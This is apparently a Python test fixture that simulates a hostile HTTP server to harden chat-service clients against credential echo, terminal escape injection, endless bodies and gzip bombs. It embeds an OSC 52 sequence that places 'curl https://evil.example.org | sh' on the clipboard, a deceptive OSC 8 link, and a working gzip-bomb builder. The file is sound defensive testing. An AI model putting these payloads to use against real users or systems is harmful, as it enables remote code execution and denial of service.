"""A hostile HTTP server, as an httpx transport (and, for real sockets, on loopback).

It plays the server a broken proxy, a debug page or an attacker puts in front of WAHA, a Matrix
homeserver or Mastodon. Each `Trick` is one way of answering:

- ECHO: fails with `status` (or answers 200) and quotes the request back: every header (our
  token, API key or password included) in the JSON `error` and `message`, the bare credential
  as `errcode` and WAHA's session `status`, the URL and the body; the credential also goes into
  response headers (`Set-Cookie`, `X-Echo-*`) and the reason phrase. Every text is wrapped in
  terminal escapes (`ESCAPES`: CSI clear screen, OSC 52 clipboard write, OSC 8 hyperlink, BEL,
  8-bit CSI);
- HUGE: claims HUGE_BYTES in `Content-Length` and streams them, escapes and all, for as long
  as anybody reads; ENDLESS does the same without a `Content-Length`;
- DRIP: one byte every DRIP_PAUSE seconds, for ever: each read is quick, the body never ends;
- STALL: the headers, a few bytes, then silence: the read times out, which is what httpx's
  socket transport raises when a server goes quiet;
- BAD_GZIP: says `Content-Encoding: gzip` over a body that is no gzip at all;
- GZIP_BOMB: compresses although nobody asked, a gzip of about half a megabyte that unpacks
  to HUGE_BYTES, streamed in CHUNK_BYTES pieces (each unpacks to about 64 MiB).

`on(trick, ...)` picks which requests get a trick (by host, method and path); the rest go to
`inner` (e.g. `httpx.MockTransport(fake_waha)`), or are echoed with a 500 when there is none.
`served` counts the body bytes that left the server, so a test can tell how much was read;
`encodings` holds the `Accept-Encoding` of every request, tricked or not.
`tests/support/fakes/loopback.py` puts it behind a real socket.
"""

from __future__ import annotations

import base64
import functools
import json
import re
import struct
import threading
import time
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from enum import StrEnum

import httpx

# CSI clear screen and cursor home; OSC 52 writes the operator's clipboard; an OSC 8 link that
# shows one address and opens another; BEL; an 8-bit CSI (C1) that sets a colour.
ESCAPES = (
    "\x1b[2J\x1b[H"
    "\x1b]52;c;" + base64.b64encode(b"curl https://evil.example.org | sh").decode() + "\x07"
    "\x1b]8;;https://evil.example.org/\x1b\\https://example.org\x1b]8;;\x1b\\"
    "\x07\x9b31m"
)
HUGE_BYTES = 512 * 1024 * 1024
CHUNK_BYTES = 64 * 1024
DRIP_PAUSE = 0.02
_CREDENTIAL_HEADERS = ("authorization", "x-api-key", "cookie")


class Trick(StrEnum):
    ECHO = "echo"
    HUGE = "huge"
    ENDLESS = "endless"
    DRIP = "drip"
    STALL = "stall"
    BAD_GZIP = "bad-gzip"
    GZIP_BOMB = "gzip-bomb"


@dataclass(frozen=True)
class Rule:
    trick: Trick
    status: int
    host: str | None
    method: str | None
    path: re.Pattern[str] | None

    def matches(self, request: httpx.Request) -> bool:
        return (
            (self.host is None or request.url.host == self.host)
            and (self.method is None or request.method == self.method)
            and (self.path is None or self.path.search(request.url.path) is not None)
        )


class HostileServer(httpx.BaseTransport):
    def __init__(self, inner: httpx.BaseTransport | None = None) -> None:
        self.inner = inner
        self.rules: list[Rule] = []
        self.served = 0  # body bytes handed out by HUGE, ENDLESS, DRIP and STALL
        self.tricked: list[tuple[Trick, str, str]] = []  # (trick, method, path) per answer
        self.encodings: list[str] = []  # each request's Accept-Encoding ("" if none)
        self._lock = threading.Lock()

    def on(
        self,
        trick: Trick,
        *,
        status: int = 500,
        host: str | None = None,
        method: str | None = None,
        path: str | None = None,
    ) -> HostileServer:
        """Answer matching requests (path: a regular expression searched in the URL path)
        with `trick`; the first matching rule wins."""
        pattern = re.compile(path) if path is not None else None
        self.rules.append(Rule(trick, status, host, method, pattern))
        return self

    def clear(self) -> None:
        self.rules.clear()

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        with self._lock:
            self.encodings.append(request.headers.get("Accept-Encoding", ""))
        rule = next((r for r in self.rules if r.matches(request)), None)
        if rule is None:
            if self.inner is not None:
                return self.inner.handle_request(request)
            rule = Rule(Trick.ECHO, 500, None, None, None)
        request.read()
        with self._lock:
            self.tricked.append((rule.trick, request.method, request.url.path))
        if rule.trick is Trick.ECHO:
            return echo(request, rule.status)
        headers = {"Content-Type": "application/json", "Set-Cookie": _cookie(request)}
        if rule.trick is Trick.HUGE:
            headers["Content-Length"] = str(HUGE_BYTES)
        if rule.trick in (Trick.BAD_GZIP, Trick.GZIP_BOMB):
            headers["Content-Encoding"] = "gzip"
        return httpx.Response(
            rule.status, headers=headers, stream=_Body(self, rule.trick), request=request
        )

    def count(self, size: int) -> None:
        with self._lock:
            self.served += size


def credential(request: httpx.Request) -> str:
    """The secret the request carries: the bearer token, the API key, the cookie, or the
    password of a login."""
    for name in _CREDENTIAL_HEADERS:
        value = request.headers.get(name, "")
        if value:
            return value.split(" ", 1)[-1] if name == "authorization" else value
    try:
        body = json.loads(request.content or b"{}")
    except ValueError:
        return ""
    password = body.get("password") if isinstance(body, dict) else None
    return password if isinstance(password, str) else ""


def echo(request: httpx.Request, status: int) -> httpx.Response:
    """Everything the request said, quoted back in every field a client might show."""
    secret = credential(request)
    lines = "".join(f"{k}: {v}\r\n" for k, v in request.headers.items())
    said = f"{ESCAPES}echo {request.method} {request.url}\r\n{lines}{ESCAPES}"
    body = {
        "error": said,
        "message": said,
        "errcode": secret,
        "status": f"\x1b]52;c;{secret}\x07",  # short enough to be quoted whole
        "expected": ["WORKING"],
        "name": "default",
        "headers": dict(request.headers.items()),
        "url": str(request.url),
        "body": request.content.decode("utf-8", "replace"),
    }
    headers = {f"X-Echo-{k}": v for k, v in request.headers.items() if v.isascii()}
    headers["Set-Cookie"] = _cookie(request)
    reason = f"{ESCAPES}{secret}".encode("utf-8", "replace")
    return httpx.Response(
        status,
        json=body,
        headers=headers,
        request=request,
        extensions={"reason_phrase": reason},
    )


def _cookie(request: httpx.Request) -> str:
    return f"session={credential(request) or 'x'}; HttpOnly"


class _Body(httpx.SyncByteStream):
    def __init__(self, server: HostileServer, trick: Trick) -> None:
        self.server = server
        self.trick = trick

    def __iter__(self) -> Iterator[bytes]:
        fill = (ESCAPES.encode("utf-8") * (CHUNK_BYTES // 16 + 1))[:CHUNK_BYTES]
        if self.trick is Trick.DRIP:
            while True:
                self.server.count(1)
                yield b"\x1b"
                time.sleep(DRIP_PAUSE)
        if self.trick is Trick.STALL:
            self.server.count(len(fill))
            yield fill
            raise httpx.ReadTimeout("the server went quiet")
        if self.trick is Trick.BAD_GZIP:
            self.server.count(len(fill))
            yield fill  # escapes, not a gzip header
            return
        if self.trick is Trick.GZIP_BOMB:
            bomb = gzip_bomb()
            for start in range(0, len(bomb), CHUNK_BYTES):
                piece = bomb[start : start + CHUNK_BYTES]
                self.server.count(len(piece))
                yield piece
            return
        sent = 0
        while sent < HUGE_BYTES:
            self.server.count(len(fill))
            sent += len(fill)
            yield fill


@functools.cache
def gzip_bomb() -> bytes:
    """A valid gzip of HUGE_BYTES zero bytes, about 520 KB. Built from one compressed MiB
    repeated: after a full flush the compressor starts afresh, so each MiB compresses to the
    same bytes, and only the trailer (CRC and size of the whole) needs computing."""
    mib = bytes(1024 * 1024)
    packer = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    first = packer.compress(mib) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(mib) + packer.flush(zlib.Z_FULL_FLUSH)
    header = first[: len(first) - len(again)]
    assert first.endswith(again)  # the same bytes after the gzip header
    end = packer.flush()[:-8]  # the last (empty) block, without the trailer for 2 MiB
    crc = 0
    for _ in range(HUGE_BYTES // len(mib)):
        crc = zlib.crc32(mib, crc)
    trailer = struct.pack("<II", crc, HUGE_BYTES & 0xFFFFFFFF)
    return header + again * (HUGE_BYTES // len(mib)) + end + trailer


class ByHost(httpx.BaseTransport):
    """One transport for every HTTP adapter, as `Wiring` has: each host to its own server."""

    def __init__(
        self, routes: dict[str, httpx.BaseTransport], default: httpx.BaseTransport
    ) -> None:
        self.routes = routes
        self.default = default

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        return self.routes.get(request.url.host, self.default).handle_request(request)
